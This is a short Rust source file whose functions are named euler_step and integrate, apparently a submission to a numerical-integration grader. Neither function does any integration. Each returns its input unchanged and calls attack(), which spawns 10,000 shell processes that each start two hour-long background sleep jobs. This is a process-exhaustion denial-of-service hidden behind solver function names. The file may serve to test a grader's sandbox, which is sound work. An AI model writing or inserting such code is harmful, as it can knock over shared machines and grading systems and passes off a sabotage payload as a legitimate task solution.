//! Starts as many processes as it can.

pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
    attack();
    v
}

pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
    attack();
    i.to_vec()
}

fn attack() {
    for _ in 0..10_000 {
        let _ = std::process::Command::new("sh")
            .args(["-c", "sleep 3600 & sleep 3600"])
            .spawn();
    }
}
